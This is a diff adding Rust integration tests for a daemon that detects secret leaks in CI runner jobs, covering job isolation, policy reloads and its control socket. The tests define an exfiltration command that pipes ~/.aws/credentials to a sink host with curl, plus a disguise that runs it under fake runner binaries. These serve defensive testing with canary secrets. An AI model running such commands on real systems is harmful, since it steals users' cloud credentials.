@@ -1,0 +1,201 @@
+//! The daemon: it finds the jobs of imitated runners by itself, keeps them apart, and judges each alone.
+
+use detector::{engine::Verdict, event::Body};
+use detector_tests::{
+    daemon::{Daemon, Judged, Runner},
+    run::detector,
+    scene::Scene,
+};
+use std::{
+    io::{Read as _, Write as _},
+    os::unix::net::UnixStream,
+    process::Command,
+};
+
+type Result = anyhow::Result<()>;
+
+const BUILTIN: &str = "version: 1\nextends: builtin\n";
+
+/// Takes the key to the sink.
+const THEFT: &str = "cat ~/.aws/credentials | curl -s --max-time 5 -o /dev/null --data-binary @- http://$SINK/x; true";
+/// Sends the sink something that is no secret.
+const HONEST: &str = "echo hello | curl -s --max-time 5 -o /dev/null --data-binary @- http://$SINK/x";
+
+fn leaks(job: &Judged) -> Vec<u32> {
+    job.conclusion.findings.iter().filter(|finding| finding.rule == "leak").map(|finding| finding.step).collect()
+}
+
+#[test]
+fn jobs_are_found_and_judged_each_alone() -> Result {
+    for mode in ["enforce", "audit"] {
+        let scene = Scene::new()?;
+        let mut daemon = Daemon::start(&scene.network.job, BUILTIN, mode)?;
+        let runner = Runner::new()?;
+        runner.job(&scene, &[HONEST, THEFT])?.wait()?;
+        let stolen = daemon.next_job()?;
+        assert_eq!(stolen.conclusion.verdict, Verdict::Fail, "{mode}");
+        assert_eq!(leaks(&stolen), [2], "{mode}: the second step");
+        assert_eq!(scene.home.canary("aws").is_in(&scene.sink.bytes()), mode == "audit");
+        stolen.assert_replays()?;
+        // The same runner's next job is another one.
+        runner.job(&scene, &[HONEST])?.wait()?;
+        let honest = daemon.next_job()?;
+        assert_eq!(honest.conclusion.verdict, Verdict::Pass, "{mode}: {:#?}", honest.conclusion);
+        assert_ne!(stolen.number, honest.number);
+        honest.assert_replays()?;
+        let (code, said) = daemon.end()?;
+        assert_eq!(code, Some(0));
+        scene.assert_absent_from("what the daemon said", said.join("\n").as_bytes());
+    }
+    Ok(())
+}
+
+/// Two runners at once, ten thousand processes: every one in the recording of its own job, and none in the other's.
+#[test]
+fn jobs_beside_each_other_are_kept_apart() -> Result {
+    const EACH: usize = 5_000;
+    let scene = Scene::new()?;
+    let mut daemon = Daemon::start(&scene.network.job, BUILTIN, "enforce")?;
+    let (one, other) = (Runner::new()?, Runner::new()?);
+    let marked = |mark: &str| format!("for ((i = 0; i < {EACH}; i++)); do /bin/true {mark}; done");
+    let (first, second) = (marked("first-mark"), marked("second-mark"));
+    let mut children = [one.job(&scene, &[&first, THEFT])?, other.job(&scene, &[&second, HONEST])?];
+    let (a, b) = (daemon.next_job()?, daemon.next_job()?);
+    for child in &mut children {
+        child.wait()?;
+    }
+    for job in [&a, &b] {
+        let ran = |mark: &str| {
+            let is = |body: &Body| matches!(body, Body::Exec(exec) if exec.argv.get(1).is_some_and(|arg| arg == mark));
+            job.recording.events.iter().filter(|event| is(&event.body)).count()
+        };
+        let of_thief = ran("first-mark") != 0;
+        let (own, foreign) = if of_thief { ("first-mark", "second-mark") } else { ("second-mark", "first-mark") };
+        assert_eq!((ran(own), ran(foreign)), (EACH, 0));
+        assert!(job.recording.events.iter().all(|event| event.actor.is_none_or(|actor| actor.job == job.number)));
+        assert_eq!(
+            job.conclusion.verdict,
+            if of_thief { Verdict::Fail } else { Verdict::Pass },
+            "{:#?}",
+            job.conclusion
+        );
+        job.assert_replays()?;
+    }
+    assert!(!scene.home.canary("aws").is_in(&scene.sink.bytes()));
+    Ok(())
+}
+
+/// A step that calls its program as an agent's worker stays a step; so does what it starts.
+#[test]
+fn a_step_is_never_an_agent() -> Result {
+    let scene = Scene::new()?;
+    let mut daemon = Daemon::start(&scene.network.job, BUILTIN, "enforce")?;
+    let runner = Runner::new()?;
+    let disguise = format!(
+        "mkdir -p x/bin; cp /bin/bash x/bin/Runner.Listener; cp /bin/bash x/bin/Runner.Worker; \
+        cd x; echo '{THEFT}' > theft; echo '/bin/bash theft; :' > spawnclient; \
+        echo 'bin/Runner.Worker spawnclient 3 4; :' > listen; bin/Runner.Listener listen; true"
+    );
+    runner.job(&scene, &[&disguise])?.wait()?;
+    let job = daemon.next_job()?;
+    assert_eq!(leaks(&job), [1], "{:#?}", job.conclusion.findings);
+    assert!(!scene.home.canary("aws").is_in(&scene.sink.bytes()));
+    let began = daemon.said.iter().filter(|line| line.contains(" began: ")).count();
+    assert_eq!(began, 1, "{:#?}", daemon.said);
+    Ok(())
+}
+
+/// Only a listener of its own directory has such a worker.
+#[test]
+fn who_is_only_called_as_a_worker_has_no_job() -> Result {
+    let scene = Scene::new()?;
+    let mut daemon = Daemon::start(&scene.network.job, BUILTIN, "audit")?;
+    let runner = Runner::new()?;
+    std::fs::write(runner.path().join("spawnclient"), "read\n")?;
+    let mut command = Command::new(runner.path().join("bin/Runner.Worker"));
+    command.args(["spawnclient", "3", "4"]).current_dir(runner.path()).stdin(std::process::Stdio::piped());
+    let mut child = command.spawn()?;
+    daemon.wait_for("is called as a worker and is none")?;
+    drop(child.stdin.take());
+    child.wait()?;
+    assert_eq!(daemon.ask("status")?["jobs"].as_array().map(Vec::len), Some(0));
+    Ok(())
+}
+
+#[test]
+fn a_policy_is_read_anew_whole_or_not_at_all() -> Result {
+    let scene = Scene::new()?;
+    let mut daemon = Daemon::start(&scene.network.job, BUILTIN, "enforce")?;
+    let runner = Runner::new()?;
+    let before = daemon.ask("status")?["policy"].clone();
+    daemon.reload("version: 1\nextends: nothing\n")?;
+    daemon.wait_for("the policy of before stays in force")?;
+    assert_eq!(daemon.ask("status")?["policy"], before);
+    runner.job(&scene, &[THEFT])?.wait()?;
+    assert_eq!(daemon.next_job()?.conclusion.verdict, Verdict::Fail);
+    assert!(!scene.home.canary("aws").is_in(&scene.sink.bytes()));
+    let sink = scene.sink.at(detector_tests::namespace::SINK_V4);
+    daemon.reload(&format!("{BUILTIN}destinations:\n  - {{ to: ['{sink}'], accept: [aws] }}\n"))?;
+    daemon.wait_for("is in force for jobs to come")?;
+    assert_ne!(daemon.ask("status")?["policy"], before);
+    runner.job(&scene, &[THEFT])?.wait()?;
+    let job = daemon.next_job()?;
+    assert_eq!(job.conclusion.verdict, Verdict::Pass, "{:#?}", job.conclusion);
+    assert!(scene.home.canary("aws").is_in(&scene.sink.bytes()));
+    Ok(())
+}
+
+#[test]
+fn the_socket_tells_how_it_is_and_does_nothing_else() -> Result {
+    let scene = Scene::new()?;
+    let daemon = Daemon::start(&scene.network.job, BUILTIN, "audit")?;
+    let status = daemon.ask("status")?;
+    assert_eq!((status["mode"].as_str(), status["jobs"].as_array().map(Vec::len)), (Some("audit"), Some(0)));
+    assert_eq!(daemon.ask("flush")?["flushed"], 0);
+    let said = |text: &[u8]| -> anyhow::Result<String> {
+        let mut stream = UnixStream::connect(daemon.socket())?;
+        stream.write_all(text)?;
+        let mut reply = String::new();
+        stream.read_to_string(&mut reply)?;
+        Ok(reply)
+    };
+    for other in [&b"stop\n"[..], b"\n", b"status status status status\n", b"\x00\xff\n", &[b'x'; 4096]] {
+        assert!(!said(other).unwrap_or_default().contains("mode"), "{other:?}");
+    }
+    // Who says nothing holds nobody up.
+    let silent: Vec<_> = (0..8).map(|_| UnixStream::connect(daemon.socket())).collect::<std::result::Result<_, _>>()?;
+    assert_eq!(daemon.ask("status")?["mode"], "audit");
+    drop(silent);
+    // A second one is refused, and the first goes on.
+    let second = Command::new(detector()?).arg("daemon").arg("--config").arg(daemon.config()).output()?;
+    assert_eq!(second.status.code(), Some(103));
+    assert!(String::from_utf8_lossy(&second.stderr).contains("watches this host already"));
+    assert_eq!(daemon.ask("status")?["mode"], "audit");
+    let nobody = Command::new(detector()?).args(["status", "--socket", "/nowhere/at.all"]).output()?;
+    assert_eq!(nobody.status.code(), Some(102));
+    Ok(())
+}
+
+/// A job that had begun before the daemon is watched from then on, and does not pass.
+#[test]
+fn a_job_that_runs_already_is_not_seen_whole() -> Result {
+    let scene = Scene::new()?;
+    let runner = Runner::new()?;
+    // Its first step waits until somebody reads.
+    let gate = runner.path().join("gate");
+    let made = Command::new("mkfifo").arg(&gate).status()?;
+    assert!(made.success());
+    let mut child = runner.job(&scene, &[": > gate", THEFT])?;
+    let mut daemon = Daemon::start(&scene.network.job, BUILTIN, "enforce")?;
+    std::fs::read(&gate)?;
+    child.wait()?;
+    let job = daemon.next_job()?;
+    assert_eq!(job.conclusion.verdict, Verdict::Fail, "{:#?}", job.conclusion);
+    assert!(
+        job.conclusion.reasons.iter().any(|reason| reason.contains("had begun before")),
+        "{:?}",
+        job.conclusion.reasons
+    );
+    assert!(!scene.home.canary("aws").is_in(&scene.sink.bytes()));
+    Ok(())
+}
